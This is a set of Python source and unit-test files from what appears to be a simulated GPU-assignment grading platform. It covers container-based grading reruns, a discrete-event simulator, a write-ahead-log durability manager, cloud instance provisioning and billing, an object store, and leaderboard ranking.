                 if r.elapsed is not None and r.exit_code == 0]
        return min(times) if times else None

    @property
    def accuracy(self) -> Optional[float]:
        accs = [r.correctness for r in self.runs
                if r.correctness is not None and r.exit_code == 0]
        return max(accs) if accs else None

    @property
    def successful_runs(self) -> int:
        return sum(1 for r in self.runs if r.exit_code == 0)


class GradingEvaluator:
    """Re-runs a downloaded submission k times, takes the minimum."""

    def __init__(self, gpu_model: str = "K80",
                 image: str = "webgpu/rai:root",
                 measurement_noise: float = 0.03,
                 rng: Optional[np.random.Generator] = None):
        self.runtime = ContainerRuntime()
        self.gpu = get_device(gpu_model)
        self.image = image
        self.measurement_noise = measurement_noise
        self._rng = rng if rng is not None else np.random.default_rng(42)

    def evaluate(self, submission: DownloadedSubmission,
                 repetitions: int = 3) -> EvaluationResult:
        result = EvaluationResult(team=submission.team)
        sources = submission.source_files()
        project = VirtualFileSystem()
        project.import_mapping(sources, "/")
        spec = final_submission_spec()
        for _ in range(max(1, repetitions)):
            result.runs.append(self._run_once(project, spec))
        return result

    def _run_once(self, project: VirtualFileSystem, spec) -> EvaluationRun:
        container = self.runtime.create_container(
            self.image,
            mounts=[VolumeMount("/src", read_only=True, source_fs=project),
                    cuda_volume()],
            gpu_device=self.gpu,
        )
        container.start()
        stdout_parts: List[str] = []
        exit_code = 0
        try:
            for command in spec.build_commands:
                exec_result = container.exec_line(command)
                stdout_parts.append(exec_result.stdout)
                if exec_result.exit_code != 0:
                    exit_code = exec_result.exit_code
                    break
        finally:
            self.runtime.destroy_container(container)
        stdout = "".join(stdout_parts)
        elapsed_matches = _ELAPSED_RE.findall(stdout)
        correctness_matches = _CORRECTNESS_RE.findall(stdout)
        elapsed = float(elapsed_matches[-1]) if elapsed_matches else None
        if elapsed is not None:
            # Run-to-run measurement noise — the reason k-run-take-min
            # exists at all.
            elapsed *= 1.0 + self.measurement_noise * \
                float(abs(self._rng.normal()))
        return EvaluationRun(
            elapsed=elapsed,
            correctness=(float(correctness_matches[-1])
                         if correctness_matches else None),
            exit_code=exit_code,
            stdout=stdout[-1000:],
        )
