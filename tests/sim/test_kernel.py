"""Unit tests for the simulator core and processes."""

import pytest

from repro.errors import EmptySchedule, Interrupt, SimulationError
from repro.sim import Simulator


class TestSimulatorClock:
    def test_starts_at_zero(self, sim):
        assert sim.now == 0.0

    def test_custom_initial_time(self):
        assert Simulator(initial_time=100.0).now == 100.0

    def test_time_advances_only_with_events(self, sim):
        sim.timeout(7.5)
        sim.run()
        assert sim.now == 7.5

    def test_peek_empty_is_inf(self, sim):
        assert sim.peek() == float("inf")

    def test_step_on_empty_raises(self, sim):
        with pytest.raises(EmptySchedule):
            sim.step()

    def test_run_until_time_stops_exactly(self, sim):
        def ticker(sim):
            while True:
                yield sim.timeout(1)

        sim.process(ticker(sim))
        sim.run(until=10.5)
        assert sim.now == 10.5

    def test_run_until_past_time_rejected(self, sim):
        sim.timeout(5)
        sim.run()
        with pytest.raises(ValueError):
            sim.run(until=1.0)

    def test_run_until_time_with_no_events_advances_clock(self, sim):
        sim.run(until=42.0)
        assert sim.now == 42.0


class TestProcess:
    def test_return_value(self, sim):
        def proc(sim):
            yield sim.timeout(1)
            return "result"

        assert sim.run(until=sim.process(proc(sim))) == "result"

    def test_requires_generator(self, sim):
        with pytest.raises(TypeError):
            sim.process(lambda: None)

    def test_process_is_alive_until_done(self, sim):
        def proc(sim):
            yield sim.timeout(5)

        p = sim.process(proc(sim))
        assert p.is_alive
        sim.run()
        assert not p.is_alive

    def test_exception_propagates_to_waiter(self, sim):
        def bad(sim):
            yield sim.timeout(1)
            raise KeyError("inner")

        def waiter(sim, target):
            try:
                yield target
            except KeyError:
                return "handled"

        target = sim.process(bad(sim))
        p = sim.process(waiter(sim, target))
        assert sim.run(until=p) == "handled"

    def test_unhandled_process_exception_raises_from_run(self, sim):
        def bad(sim):
            yield sim.timeout(1)
            raise KeyError("unhandled")

        sim.process(bad(sim))
        with pytest.raises(KeyError):
            sim.run()

    def test_yield_non_event_fails_process(self, sim):
        def bad(sim):
            yield 42

        sim.process(bad(sim))
        with pytest.raises(SimulationError, match="non-event"):
            sim.run()

    def test_yielding_completed_process_returns_instantly(self, sim):
        def quick(sim):
            yield sim.timeout(1)
            return "v"

        def waiter(sim, target):
            yield sim.timeout(10)
            value = yield target    # target long done
            return value

        target = sim.process(quick(sim))
        p = sim.process(waiter(sim, target))
        assert sim.run(until=p) == "v"
        assert sim.now == 10.0

    def test_nested_processes(self, sim):
        def inner(sim, n):
            yield sim.timeout(n)
            return n * 2

        def outer(sim):
            a = yield sim.process(inner(sim, 1))
            b = yield sim.process(inner(sim, 2))
            return a + b

        assert sim.run(until=sim.process(outer(sim))) == 6
        assert sim.now == 3.0

    def test_run_process_helper(self, sim):
        def proc(sim):
            yield sim.timeout(2)
            return "ok"

        assert sim.run_process(proc(sim)) == "ok"


class TestInterrupt:
    def test_interrupt_delivers_cause(self, sim):
        def sleeper(sim):
            try:
                yield sim.timeout(100)
            except Interrupt as i:
                return ("interrupted", i.cause, sim.now)

        p = sim.process(sleeper(sim))

        def killer(sim):
            yield sim.timeout(5)
            p.interrupt("reason")

        sim.process(killer(sim))
        assert sim.run(until=p) == ("interrupted", "reason", 5.0)

    def test_interrupt_dead_process_raises(self, sim):
        def quick(sim):
            yield sim.timeout(1)

        p = sim.process(quick(sim))
        sim.run()
        with pytest.raises(SimulationError):
            p.interrupt()

    def test_self_interrupt_rejected(self, sim):
        def proc(sim):
            me = sim.active_process
            with pytest.raises(SimulationError):
                me.interrupt()
            yield sim.timeout(1)
            return "done"

        assert sim.run(until=sim.process(proc(sim))) == "done"

    def test_interrupted_process_can_continue(self, sim):
        def resilient(sim):
            total = 0.0
            try:
                yield sim.timeout(100)
            except Interrupt:
                pass
            yield sim.timeout(3)
            return sim.now

        p = sim.process(resilient(sim))

        def killer(sim):
            yield sim.timeout(2)
            p.interrupt()

        sim.process(killer(sim))
        assert sim.run(until=p) == 5.0

    def test_interrupt_detaches_from_target(self, sim):
        """The abandoned timeout firing later must not resume the process."""
        log = []

        def proc(sim):
            try:
                yield sim.timeout(10)
                log.append("timeout fired in proc")
            except Interrupt:
                log.append("interrupted")
            yield sim.timeout(50)
            log.append("second wait done")

        p = sim.process(proc(sim))

        def killer(sim):
            yield sim.timeout(1)
            p.interrupt()

        sim.process(killer(sim))
        sim.run()
        assert log == ["interrupted", "second wait done"]


class TestDeterminism:
    def test_identical_runs_produce_identical_traces(self):
        def trace_run():
            sim = Simulator()
            log = []

            def worker(sim, i):
                for k in range(3):
                    yield sim.timeout(0.5 * (i + 1))
                    log.append((round(sim.now, 3), i, k))

            for i in range(4):
                sim.process(worker(sim, i))
            sim.run()
            return log

        assert trace_run() == trace_run()
