"""Filesystem node types."""

from __future__ import annotations

from typing import Dict, Union


class FileNode:
    """A regular file holding immutable ``bytes`` content."""

    __slots__ = ("data", "mtime", "executable")

    def __init__(self, data: bytes = b"", mtime: float = 0.0,
                 executable: bool = False):
        if not isinstance(data, (bytes, bytearray)):
            raise TypeError(f"file data must be bytes, got {type(data).__name__}")
        self.data = bytes(data)
        self.mtime = float(mtime)
        self.executable = bool(executable)

    @property
    def size(self) -> int:
        return len(self.data)

    def clone(self) -> "FileNode":
        return FileNode(self.data, self.mtime, self.executable)

    def __repr__(self):
        return f"<FileNode {self.size}B>"


class DirNode:
    """A directory mapping names to child nodes."""

    __slots__ = ("children", "mtime")

    def __init__(self, mtime: float = 0.0):
        self.children: Dict[str, Union[FileNode, "DirNode"]] = {}
        self.mtime = float(mtime)

    def clone(self) -> "DirNode":
        node = DirNode(self.mtime)
        for name, child in self.children.items():
            node.children[name] = child.clone()
        return node

    def __repr__(self):
        return f"<DirNode {len(self.children)} entries>"
