"""The durability manager: journal hooks, checkpoints, and recovery.

One :class:`DurabilityManager` binds a live
:class:`~repro.core.system.RaiSystem` to a durability directory holding
two files: ``snapshot.json`` (the last checkpoint) and ``wal.log`` (the
mutations since).  The subsystems do not know about files — docdb,
broker, object store, and keystore each call one thin ``journal.*``
method after applying a mutation, and the manager frames it into the
WAL.  Recovery inverts the flow: install the snapshot, replay the WAL
suffix in order, then repair the soft state (requeue orphaned in-flight
deliveries, rebuild chunk refcounts, advance id watermarks).

Two invariants keep recovery exactly-once:

- **Terminal-record fencing.**  An in-flight task message whose job
  already has a (terminal) ``submissions`` record is *not* requeued on
  restore — the pre-crash worker finished it and the docdb insert made
  it into the log; re-running would double-record.  This is the same
  dedup the worker's ``_record`` probe applies to live redeliveries,
  moved to the recovery boundary.
- **Checkpoint-on-restore.**  Recovery ends with a fresh checkpoint, so
  a crash during the *next* epoch replays from a compacted base instead
  of re-running an ever-growing log.
"""

from __future__ import annotations

import base64
import os
import re
import time
from typing import Optional

from repro.broker.message import Message, advance_message_ids
from repro.core.job import advance_job_ids
from repro.durability import snapshot as snapshot_codec
from repro.durability.wal import WriteAheadLog
from repro.obs.events import EventType
from repro.storage.lifecycle import LifecycleRule

#: ``recovery.time`` histogram buckets — real seconds, far below the
#: simulated-latency defaults (recovery replays in-memory state).
RECOVERY_TIME_BUCKETS = (0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 30.0)

_MSG_ID_RE = re.compile(r"^msg-(\d+)$")
_JOB_ID_RE = re.compile(r"^job-(\d+)$")


class DurabilityManager:
    """Owns one durability directory on behalf of one deployment."""

    SNAPSHOT_FILE = "snapshot.json"
    WAL_FILE = "wal.log"

    def __init__(self, system, path, replaying: bool = False):
        self.system = system
        self.path = str(path)
        os.makedirs(self.path, exist_ok=True)
        self.wal = WriteAheadLog(os.path.join(self.path, self.WAL_FILE))
        #: True while recovery installs/replays state: journal calls made
        #: by the very subsystems being rebuilt must not re-log history.
        self._replaying = replaying
        self.records_logged = 0
        self._records_since_checkpoint = 0
        self.checkpoints_taken = 0
        self.last_checkpoint_at: Optional[float] = None
        self.replay_anomalies = 0

    @property
    def snapshot_path(self) -> str:
        return os.path.join(self.path, self.SNAPSHOT_FILE)

    @property
    def active(self) -> bool:
        return not self._replaying and not self.wal.closed

    def close(self) -> None:
        """Crash semantics: stop journaling, leave files exactly as-is."""
        self.wal.close()

    # -- journal interface (called by the subsystems) ------------------------

    def _append(self, op: str, **fields) -> None:
        if not self.active:
            return
        record = {"op": op, "t": self.system.sim.now}
        record.update(fields)
        self.wal.append(record)
        self.records_logged += 1
        self._records_since_checkpoint += 1

    # docdb
    def docdb_insert(self, collection: str, doc: dict) -> None:
        self._append("db_insert", c=collection, doc=doc)

    def docdb_update(self, collection: str, doc: dict) -> None:
        self._append("db_update", c=collection, doc=doc)

    def docdb_delete(self, collection: str, doc_id) -> None:
        self._append("db_delete", c=collection, id=doc_id)

    def docdb_index(self, collection: str, field: str, unique: bool,
                    ordered: bool) -> None:
        self._append("db_index", c=collection, field=field, unique=unique,
                     ordered=ordered)

    def docdb_drop(self, collection: str) -> None:
        self._append("db_drop", c=collection)

    # broker (durable topics only; callers skip ephemeral log_* topics)
    def broker_publish(self, topic: str, body, headers,
                       message_id: str, timestamp: float) -> None:
        self._append("mb_publish", topic=topic, body=body, headers=headers,
                     id=message_id, ts=timestamp)

    def broker_channel(self, topic: str, channel: str) -> None:
        self._append("mb_channel", topic=topic, channel=channel)

    def broker_deliver(self, route: str, message_id: str) -> None:
        self._append("mb_deliver", route=route, id=message_id)

    def broker_ack(self, route: str, message_id: str) -> None:
        self._append("mb_ack", route=route, id=message_id)

    def broker_requeue(self, route: str, message_id: str,
                       dead_lettered: bool) -> None:
        self._append("mb_requeue", route=route, id=message_id,
                     dl=dead_lettered)

    def broker_steal(self, route_from: str, route_to: str,
                     message_id: str) -> None:
        """A balancer migration: a queued message re-homed between
        partition channels (``repro.shard``).  Both routes carry their
        partition ids (``tasks.pK/tasks``), so replay re-homes the
        message exactly as the balancer did."""
        self._append("mb_steal", route=route_from, to=route_to,
                     id=message_id)

    def broker_dl_drain(self, route: str, message_ids) -> None:
        self._append("mb_dl_drain", route=route, ids=list(message_ids))

    def broker_topic_delete(self, name: str) -> None:
        self._append("mb_topic_delete", topic=name)

    # object store
    def storage_bucket(self, name: str) -> None:
        self._append("st_bucket", bucket=name)

    def storage_put(self, bucket: str, key: str, data: bytes,
                    metadata, padding_bytes: int, dedup: bool) -> None:
        self._append("st_put", bucket=bucket, key=key,
                     data=base64.b64encode(data).decode("ascii"),
                     metadata=metadata, padding=padding_bytes, dedup=dedup)

    def storage_delete(self, bucket: str, key: str) -> None:
        self._append("st_delete", bucket=bucket, key=key)

    def storage_rule(self, bucket: str, prefix: str, expire_after: float,
                     since: str) -> None:
        self._append("st_rule", bucket=bucket, prefix=prefix,
                     expire_after=expire_after, since=since)

    # auth
    def auth_issue(self, cred_doc: dict) -> None:
        self._append("auth_issue", cred=cred_doc)

    # -- checkpoint ----------------------------------------------------------

    def checkpoint(self) -> dict:
        """Snapshot the deployment and truncate the WAL (compaction)."""
        start = time.perf_counter()
        snap = snapshot_codec.capture(self.system)
        bytes_written = snapshot_codec.write_snapshot(self.snapshot_path,
                                                      snap)
        compacted = self._records_since_checkpoint
        self.wal.reset()
        self._records_since_checkpoint = 0
        self.checkpoints_taken += 1
        self.last_checkpoint_at = self.system.sim.now
        duration = time.perf_counter() - start
        documents = sum(len(c["docs"]) for c in snap["db"].values())
        messages = sum(
            len(t["backlog"]) + sum(len(c["items"]) + len(c["in_flight"])
                                    + len(c["dead_letters"])
                                    for c in t["channels"])
            for t in snap["broker"]["topics"])
        info = {
            "path": self.snapshot_path,
            "bytes": bytes_written,
            "records_compacted": compacted,
            "collections": len(snap["db"]),
            "documents": documents,
            "messages": messages,
            "duration_s": round(duration, 6),
        }
        self.system.metrics.counter("durability_checkpoints").inc()
        self.system.events.emit(EventType.DURABILITY_SNAPSHOT, **info)
        return info

    # -- recovery ------------------------------------------------------------

    def recover(self, snap: Optional[dict]) -> dict:
        """Install ``snap`` (if any), replay the WAL, repair soft state.

        Runs with journaling suppressed; the caller flips it on and takes
        the post-recovery checkpoint.
        """
        assert self._replaying, "recover() requires replaying mode"
        counts = {"snapshot": None, "replayed": 0, "torn": 0,
                  "discarded": 0, "requeued": 0, "fenced": 0,
                  "anomalies": 0}
        clock_target = 0.0
        if snap is not None:
            counts["snapshot"] = snapshot_codec.install(self.system, snap)
            clock_target = float(snap.get("now", 0.0))
        records, wal_stats = self.wal.replay()
        for record in records:
            try:
                self._apply(record)
            except Exception:
                self.replay_anomalies += 1
            clock_target = max(clock_target, float(record.get("t", 0.0)))
        counts["replayed"] = wal_stats["records"]
        counts["torn"] = wal_stats["torn"]
        counts["discarded"] = wal_stats["discarded"]
        counts["anomalies"] = self.replay_anomalies
        requeued, fenced = self._requeue_in_flight()
        counts["requeued"] = requeued
        counts["fenced"] = fenced
        counts["chunk_store"] = \
            self.system.storage.rebuild_chunk_refcounts()
        counts["upload_bases"] = \
            self.system.storage.rebuild_upload_bases()
        self._advance_watermarks()
        sim = self.system.sim
        if clock_target > sim.now:
            sim.run(until=clock_target)
        return counts

    def _apply(self, record: dict) -> None:
        handler = getattr(self, "_replay_" + record["op"], None)
        if handler is None:
            self.replay_anomalies += 1
            return
        handler(record)

    # docdb replay: physical post-image application, straight into the
    # collection internals (the public verbs would re-plan and re-journal).
    def _replay_db_insert(self, record: dict) -> None:
        coll = self.system.db.collection(record["c"])
        doc = record["doc"]
        coll._index_add(doc["_id"], doc)
        coll._docs[doc["_id"]] = doc
        coll._note_oid(doc["_id"])
        self._note_job_id(doc.get("job_id"))

    def _replay_db_update(self, record: dict) -> None:
        coll = self.system.db.collection(record["c"])
        doc = record["doc"]
        old = coll._docs.get(doc["_id"])
        if old is not None:
            coll._index_remove(doc["_id"], old)
        coll._index_add(doc["_id"], doc)
        coll._docs[doc["_id"]] = doc

    def _replay_db_delete(self, record: dict) -> None:
        coll = self.system.db.collection(record["c"])
        doc = coll._docs.pop(record["id"], None)
        if doc is not None:
            coll._index_remove(record["id"], doc)

    def _replay_db_index(self, record: dict) -> None:
        self.system.db.collection(record["c"]).create_index(
            record["field"], unique=record["unique"],
            ordered=record["ordered"])

    def _replay_db_drop(self, record: dict) -> None:
        self.system.db.drop_collection(record["c"])

    # broker replay: reconstruct queue/in-flight/dead-letter membership.
    def _replay_mb_publish(self, record: dict) -> None:
        msg = Message(record["topic"], record["body"], record["ts"],
                      message_id=record["id"], headers=record.get("headers"))
        self.system.broker.topic(record["topic"],
                                 ephemeral=False).publish(msg)
        self._note_message_id(record["id"])
        body = record["body"]
        if isinstance(body, dict):
            self._note_job_id(body.get("job_id"))

    def _replay_mb_channel(self, record: dict) -> None:
        self.system.broker.topic(record["topic"],
                                 ephemeral=False).channel(record["channel"])

    def _channel(self, route: str):
        return self.system.broker.channel(route)

    def _replay_mb_deliver(self, record: dict) -> None:
        channel = self._channel(record["route"])
        for i, msg in enumerate(channel.items):
            if msg.id == record["id"]:
                del channel.items[i]
                msg.attempts += 1
                msg.delivered_at = record.get("t")
                msg._channel = channel
                channel.in_flight[msg.id] = msg
                channel.total_delivered += 1
                return
        self.replay_anomalies += 1

    def _replay_mb_ack(self, record: dict) -> None:
        channel = self._channel(record["route"])
        if channel.in_flight.pop(record["id"], None) is not None:
            channel.total_acked += 1

    def _replay_mb_steal(self, record: dict) -> None:
        source = self._channel(record["route"])
        target = self._channel(record["to"])
        for i, msg in enumerate(source.items):
            if msg.id == record["id"]:
                del source.items[i]
                target.items.append(msg)
                return
        self.replay_anomalies += 1

    def _replay_mb_requeue(self, record: dict) -> None:
        channel = self._channel(record["route"])
        msg = channel.in_flight.pop(record["id"], None)
        if msg is None:
            self.replay_anomalies += 1
            return
        if record.get("dl"):
            channel.dead_letters.append(msg)
            channel.total_dead_lettered += 1
        else:
            channel.items.append(msg)
            channel.total_requeued += 1

    def _replay_mb_dl_drain(self, record: dict) -> None:
        channel = self._channel(record["route"])
        drained = set(record.get("ids", []))
        channel.dead_letters[:] = [m for m in channel.dead_letters
                                   if m.id not in drained]

    def _replay_mb_topic_delete(self, record: dict) -> None:
        self.system.broker.topics.pop(record["topic"], None)

    # object store replay: through the public verbs (journaling is off).
    def _replay_st_bucket(self, record: dict) -> None:
        self.system.storage.create_bucket(record["bucket"], exist_ok=True)

    def _replay_st_put(self, record: dict) -> None:
        self.system.storage.put_object(
            record["bucket"], record["key"],
            base64.b64decode(record["data"].encode("ascii")),
            metadata=record.get("metadata"),
            padding_bytes=record.get("padding", 0),
            dedup=record.get("dedup", False))

    def _replay_st_delete(self, record: dict) -> None:
        self.system.storage.delete_object(record["bucket"], record["key"],
                                          missing_ok=True)

    def _replay_st_rule(self, record: dict) -> None:
        self.system.storage.bucket(record["bucket"]).add_lifecycle_rule(
            LifecycleRule(prefix=record.get("prefix", ""),
                          expire_after=record["expire_after"],
                          since=record.get("since", "creation")))

    def _replay_auth_issue(self, record: dict) -> None:
        self.system.keystore.restore_credential(record["cred"])

    # -- soft-state repair ---------------------------------------------------

    def _requeue_in_flight(self):
        """Return orphaned in-flight deliveries to their queues.

        The consumers that claimed them died with the old process.  Each
        message goes back to the front of the line with its attempt count
        preserved — unless its job already has a terminal ``submissions``
        record (finished pre-crash, or dead-lettered and drained), in
        which case redelivery would double-execute: those are completed
        in place.  Out-of-budget messages park in the dead-letter list
        exactly as a live requeue would.
        """
        submissions = self.system.db.collection("submissions")
        requeued = fenced = 0
        for topic in self.system.broker.topics.values():
            if topic.ephemeral:
                continue
            for channel in topic.channels.values():
                for msg in list(channel.in_flight.values()):
                    channel.in_flight.pop(msg.id, None)
                    body = msg.body if isinstance(msg.body, dict) else {}
                    job_id = body.get("job_id")
                    if job_id is not None and \
                            submissions.find_one({"job_id": job_id}) \
                            is not None:
                        channel.total_acked += 1
                        fenced += 1
                        continue
                    msg.delivered_at = None
                    if msg.attempts >= channel.max_attempts:
                        channel.dead_letters.append(msg)
                        channel.total_dead_lettered += 1
                    else:
                        channel.items.appendleft(msg)
                        channel.total_requeued += 1
                        requeued += 1
        return requeued, fenced

    def _note_message_id(self, message_id) -> None:
        match = _MSG_ID_RE.match(message_id or "")
        if match:
            advance_message_ids(int(match.group(1)) + 1)

    def _note_job_id(self, job_id) -> None:
        match = _JOB_ID_RE.match(job_id if isinstance(job_id, str) else "")
        if match:
            advance_job_ids(int(match.group(1)) + 1)

    def _advance_watermarks(self) -> None:
        """Never mint an id a pre-crash epoch already used: a colliding
        job id would trip the worker's dedup fence and silently swallow
        a brand-new submission."""
        for doc in self.system.db.collection("submissions").find({}):
            self._note_job_id(doc.get("job_id"))
        for topic in self.system.broker.topics.values():
            for channel in topic.channels.values():
                for msg in list(channel.items) \
                        + list(channel.in_flight.values()) \
                        + channel.dead_letters:
                    self._note_message_id(msg.id)
                    body = msg.body if isinstance(msg.body, dict) else {}
                    self._note_job_id(body.get("job_id"))

    # -- observability -------------------------------------------------------

    def stats(self) -> dict:
        return {
            "path": self.path,
            "wal_records": self.wal.records_appended,
            "wal_bytes": self.wal.size_bytes if not self.wal.closed else 0,
            "records_logged": self.records_logged,
            "checkpoints": self.checkpoints_taken,
            "last_checkpoint_at": self.last_checkpoint_at,
            "replay_anomalies": self.replay_anomalies,
        }
