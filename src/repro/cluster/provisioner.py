"""Turning cloud instances into RAI workers."""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import List, Optional

from repro.cluster.instance import InstanceType, get_instance_type
from repro.core.config import WorkerConfig

#: Guard against float drift on exact hour boundaries: a lease of
#: exactly 2h must bill 2 hours even if the subtraction lands on
#: 7200.0000000001 seconds.
_HOUR_EPSILON = 1e-9


@dataclass
class ProvisionedInstance:
    """One leased machine and the worker running on it."""

    instance_type: InstanceType
    launched_at: float
    worker: object = None           # RaiWorker once booted
    terminated_at: Optional[float] = None
    boot_process: object = None
    slots: int = 1                  # max_concurrent_jobs of its worker

    def cost_until(self, now: float) -> float:
        """Accrued cost; cloud billing is per (partial) hour.

        Billing starts at *launch*, not boot: an instance terminated
        ten seconds in — before its worker ever joined — still bills a
        full first hour, exactly as the cloud would charge it.  The two
        edge cases that round the other way: a zero-duration lease
        (terminated the same instant it launched) bills nothing, and an
        exact hour boundary bills that many hours, not one more.
        """
        end = self.terminated_at if self.terminated_at is not None else now
        seconds = max(0.0, end - self.launched_at)
        if seconds <= 0.0:
            return 0.0
        hours = seconds / 3600.0
        billed = max(1.0, math.ceil(hours - _HOUR_EPSILON))
        return billed * self.instance_type.hourly_cost_usd

    def overlap_seconds(self, start: float, end: float) -> float:
        """Seconds this lease was live inside ``[start, end)``."""
        lease_end = self.terminated_at if self.terminated_at is not None else end
        lo = max(start, self.launched_at)
        hi = min(end, lease_end)
        return max(0.0, hi - lo)

    @property
    def is_live(self) -> bool:
        return self.terminated_at is None


class Provisioner:
    """Launches and terminates instances against a :class:`RaiSystem`."""

    def __init__(self, system):
        self.system = system
        self.sim = system.sim
        self.instances: List[ProvisionedInstance] = []
        # Register with the system's metering/metrics plane when it has
        # one (bare harnesses in unit tests may not).
        fleet = getattr(system, "provisioners", None)
        if fleet is not None:
            fleet.append(self)
        allocator = getattr(system, "cost_allocator", None)
        if allocator is not None:
            allocator.attach_provisioner(self)

    # -- scale out ------------------------------------------------------------

    def launch(self, instance_type: str = "p2.xlarge",
               max_concurrent_jobs: int = 1,
               boot_delay: Optional[float] = None) -> ProvisionedInstance:
        """Lease an instance; its worker joins the pool after boot."""
        itype = get_instance_type(instance_type)
        inst = ProvisionedInstance(instance_type=itype,
                                   launched_at=self.sim.now,
                                   slots=max_concurrent_jobs)
        delay = itype.boot_seconds if boot_delay is None else boot_delay

        def boot():
            yield self.sim.timeout(delay)
            if inst.terminated_at is not None:
                return  # terminated while booting
            config = WorkerConfig(
                max_concurrent_jobs=max_concurrent_jobs,
                gpu_model=itype.gpu_model,
                storage_bandwidth_bps=itype.storage_bandwidth_bps,
            )
            inst.worker = self.system.add_worker(config)

        inst.boot_process = self.sim.process(boot())
        self.instances.append(inst)
        self._register_type_gauges(itype.name)
        return inst

    def launch_many(self, count: int, **kwargs) -> List[ProvisionedInstance]:
        return [self.launch(**kwargs) for _ in range(count)]

    # -- scale in ------------------------------------------------------------

    def terminate(self, instance: ProvisionedInstance) -> None:
        if instance.terminated_at is not None:
            return
        instance.terminated_at = self.sim.now
        if instance.worker is not None:
            self.system.remove_worker(instance.worker)

    def terminate_count(self, count: int) -> int:
        """Terminate up to ``count`` live instances (idle-first)."""
        live = [i for i in self.instances if i.is_live and i.worker is not None]
        live.sort(key=lambda i: i.worker.active_jobs)
        terminated = 0
        for inst in live[:count]:
            self.terminate(inst)
            terminated += 1
        return terminated

    def terminate_all(self) -> None:
        for inst in self.instances:
            self.terminate(inst)

    # -- observability ------------------------------------------------------

    @property
    def live_instances(self) -> List[ProvisionedInstance]:
        return [i for i in self.instances if i.is_live]

    def total_cost(self, now: Optional[float] = None) -> float:
        now = self.sim.now if now is None else now
        return sum(i.cost_until(now) for i in self.instances)

    def total_instance_hours(self, now: Optional[float] = None) -> float:
        now = self.sim.now if now is None else now
        seconds = sum(
            max(0.0, (i.terminated_at if i.terminated_at is not None
                      else now) - i.launched_at)
            for i in self.instances)
        return seconds / 3600.0

    def capacity_slot_seconds(self, start: float, end: float) -> float:
        """Provisioned worker-slot capacity inside ``[start, end)``."""
        return sum(i.overlap_seconds(start, end) * i.slots
                   for i in self.instances)

    def _register_type_gauges(self, type_name: str) -> None:
        """Per-instance-type cost/occupancy gauges (satellite of PR 10).

        Labelled *callback* gauges: the periodic sampler skips them (by
        design — see scrape.py), but `rai stats`, exports, and tests
        read them through the registry, which is what "CostReport is no
        longer CLI-only" requires.  The closures sum over every
        provisioner attached to the system so repeated registration
        keeps the first (equivalent) callback.
        """
        metrics = getattr(self.system, "metrics", None)
        fleet = getattr(self.system, "provisioners", None)
        if metrics is None or fleet is None:
            return
        sim = self.sim

        def type_cost():
            return sum(i.cost_until(sim.now)
                       for p in fleet for i in p.instances
                       if i.instance_type.name == type_name)

        def type_live():
            return sum(1 for p in fleet for i in p.instances
                       if i.instance_type.name == type_name and i.is_live)

        metrics.gauge("cluster_cost_usd", fn=type_cost,
                      instance_type=type_name)
        metrics.gauge("cluster_instances_live", fn=type_live,
                      instance_type=type_name)
