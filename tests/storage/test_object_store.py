"""Unit tests for the object store."""

import pytest

from repro.errors import (
    BucketAlreadyExists,
    NoSuchBucket,
    NoSuchKey,
    PreconditionFailed,
)
from repro.storage import ObjectStore


@pytest.fixture
def store(sim):
    s = ObjectStore(sim)
    s.create_bucket("b")
    return s


class TestBuckets:
    def test_create_and_get(self, store):
        assert store.bucket("b").name == "b"

    def test_duplicate_create_raises(self, store):
        with pytest.raises(BucketAlreadyExists):
            store.create_bucket("b")

    def test_exist_ok(self, store):
        assert store.create_bucket("b", exist_ok=True) is store.bucket("b")

    def test_missing_bucket_raises(self, store):
        with pytest.raises(NoSuchBucket):
            store.bucket("ghost")


class TestObjects:
    def test_put_get_roundtrip(self, store):
        put = store.put_object("b", "k", b"data", metadata={"team": "t1"})
        got = store.get_object("b", "k")
        assert got.data == b"data"
        assert got.etag == put.etag
        assert got.metadata == {"team": "t1"}

    def test_get_missing_raises(self, store):
        with pytest.raises(NoSuchKey):
            store.get_object("b", "ghost")

    def test_etag_is_content_hash(self, store):
        a = store.put_object("b", "k1", b"same")
        b = store.put_object("b", "k2", b"same")
        c = store.put_object("b", "k3", b"different")
        assert a.etag == b.etag != c.etag

    def test_overwrite_replaces(self, store):
        store.put_object("b", "k", b"v1")
        store.put_object("b", "k", b"v2")
        assert store.get_object("b", "k").data == b"v2"

    def test_if_none_match(self, store):
        store.put_object("b", "k", b"v1")
        with pytest.raises(PreconditionFailed):
            store.put_object("b", "k", b"v2", if_none_match=True)

    def test_head_has_no_body(self, store):
        store.put_object("b", "k", b"12345")
        head = store.head_object("b", "k")
        assert head["size"] == 5
        assert "data" not in head

    def test_delete(self, store):
        store.put_object("b", "k", b"x")
        assert store.delete_object("b", "k") is True
        assert store.delete_object("b", "k") is False
        with pytest.raises(NoSuchKey):
            store.delete_object("b", "k", missing_ok=False)

    def test_copy(self, store):
        store.create_bucket("b2")
        store.put_object("b", "src", b"payload", metadata={"m": "1"})
        copy = store.copy_object("b", "src", "b2", "dst")
        assert copy.data == b"payload"
        assert copy.metadata == {"m": "1"}

    def test_list_by_prefix(self, store):
        for key in ("team1/a", "team1/b", "team2/c"):
            store.put_object("b", key, b"")
        listed = store.list_objects("b", prefix="team1/")
        assert [o["key"] for o in listed] == ["team1/a", "team1/b"]

    def test_padding_counts_in_size(self, store, sim):
        obj = store.put_object("b", "k", b"xx", padding_bytes=1000)
        assert obj.size == 1002
        assert store.bucket("b").total_bytes == 1002
        assert len(store.get_object("b", "k").data) == 2

    def test_last_used_updates_on_get(self, store, sim):
        store.put_object("b", "k", b"x")
        sim._now = 100.0
        obj = store.get_object("b", "k")
        assert obj.last_used_at == 100.0

    def test_counters(self, store):
        store.put_object("b", "k", b"1234")
        store.get_object("b", "k")
        counters = store.counters.as_dict()
        assert counters["puts"] == 1
        assert counters["gets"] == 1
        assert counters["bytes_in"] == 4
