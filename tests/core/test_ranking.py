"""Unit tests for competition ranking."""

import pytest

from repro.core.ranking import RankingService
from repro.docdb import DocumentDB


@pytest.fixture
def ranking():
    service = RankingService(DocumentDB())
    for team, time in [("alpha", 0.9), ("bravo", 0.4), ("charlie", 2.5)]:
        service.record_final(team=team, internal_time=time,
                             instructor_time=time * 1.05, correctness=1.0,
                             username=f"{team}-lead", job_id=f"job-{team}",
                             at=100.0)
    return ranking_or(service)


def ranking_or(service):
    return service


class TestLeaderboard:
    def test_sorted_by_time(self, ranking):
        board = ranking.leaderboard()
        assert [row["team"] for row in board] == \
            ["bravo", "alpha", "charlie"]
